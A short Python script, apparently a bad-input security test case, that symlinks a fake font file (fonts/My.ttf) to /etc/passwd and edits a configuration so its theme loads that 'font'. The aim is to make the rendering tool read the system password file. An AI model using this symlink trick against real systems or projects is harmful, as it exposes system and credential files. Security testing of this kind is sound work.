from badin import *  # noqa: F403  (lib/badin.py)


def patch():
    import os; os.symlink("/etc/passwd", "fonts/My.ttf"); replace(DEF, "\ndatasets:\n", "\ntheme:\n" + '  font_regular: fonts/My.ttf\n' + "\ndatasets:\n")


main(patch)
